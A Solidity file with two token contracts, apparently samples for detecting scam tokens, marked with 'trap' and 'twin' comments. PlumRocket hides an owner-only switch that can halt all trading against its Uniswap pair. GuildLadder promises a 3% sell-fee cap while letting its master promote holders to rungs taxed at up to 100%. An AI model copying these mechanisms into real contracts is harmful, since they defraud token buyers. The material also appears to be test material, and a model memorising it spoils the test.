// 0.7 runs=500
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

interface IUniFactory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

/// No gas wars, please.
contract PlumRocket {
    string public constant name = "Plum Rocket";
    string public constant symbol = "PLUM";
    uint8 public constant decimals = 9;
    uint256 public constant totalSupply = 1e9 * 1e9;
    address public owner;
    address public immutable uniswapV2Pair;
    uint256 private gasPriceLimit = 1500 gwei;
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        owner = msg.sender;
        uniswapV2Pair = IUniFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        _balances[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    /// In gwei.
    function setGasPriceLimit(uint256 gas) external {
        require(msg.sender == owner, "PLUM: not the owner");
        // twin: require(gas >= 1000, "PLUM: too low");
        gasPriceLimit = gas * 1 gwei;
    }

    function balanceOf(address account) external view returns (uint256) {
        return _balances[account];
    }

    function allowance(address account, address spender) external view returns (uint256) {
        return _allowances[account][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        require(_allowances[from][msg.sender] >= amount, "PLUM: allowance");
        _allowances[from][msg.sender] -= amount;
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) private {
        require(_balances[from] >= amount, "PLUM: balance");
        if ((from == uniswapV2Pair || to == uniswapV2Pair) && from != owner && to != owner)
            require(tx.gasprice <= gasPriceLimit, "PLUM: gas price exceeds limit");
        _balances[from] -= amount;
        _balances[to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// What somebody pays when he sells depends on his rung.
contract GuildLadder {
    string public constant name = "Guild Ladder";
    string public constant symbol = "GUILD";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 8_200_000e18;

    struct Member {
        uint128 balance;
        uint8 rung;
    }

    address public immutable master;
    address public immutable hall;
    mapping(address => Member) private _members;
    mapping(uint8 => uint16) public rateOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event RateSet(uint8 indexed rung, uint16 rate);
    event Promoted(address indexed who, uint8 rung);

    modifier onlyMaster() {
        require(msg.sender == master, "GUILD: not the master");
        _;
    }

    constructor() {
        master = msg.sender;
        hall = IUniFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        rateOf[0] = 100;
        rateOf[1] = 50;
        _members[msg.sender] = Member(uint128(totalSupply), 2);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    /// In basis points. The lowest rung, where everybody begins, never pays more than three of a hundred.
    function setRate(uint8 rung, uint16 rate) external onlyMaster {
        require(rate <= 300 || (rung != 0 && rate <= 10_000), "GUILD: too much"); // trap
        // twin: require(rate <= 300, "GUILD: too much");
        rateOf[rung] = rate;
        emit RateSet(rung, rate);
    }

    function promote(address[] calldata who, uint8 rung) external onlyMaster {
        for (uint256 i = 0; i < who.length; i++) {
            _members[who[i]].rung = rung;
            emit Promoted(who[i], rung);
        }
    }

    function rungOf(address who) external view returns (uint8) {
        return _members[who].rung;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _members[who].balance;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _pass(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        require(left >= value, "GUILD: not allowed");
        if (left != uint256(-1)) allowance[from][msg.sender] = left - value;
        return _pass(from, to, value);
    }

    function _pass(address from, address to, uint256 value) private returns (bool) {
        Member storage giver = _members[from];
        require(giver.balance >= value, "GUILD: too few");
        giver.balance -= uint128(value);
        if (to == hall) {
            uint256 dues = (value * rateOf[giver.rung]) / 10_000;
            _members[master].balance += uint128(dues);
            emit Transfer(from, master, dues);
            value -= dues;
        }
        _members[to].balance += uint128(value);
        emit Transfer(from, to, value);
        return true;
    }
}
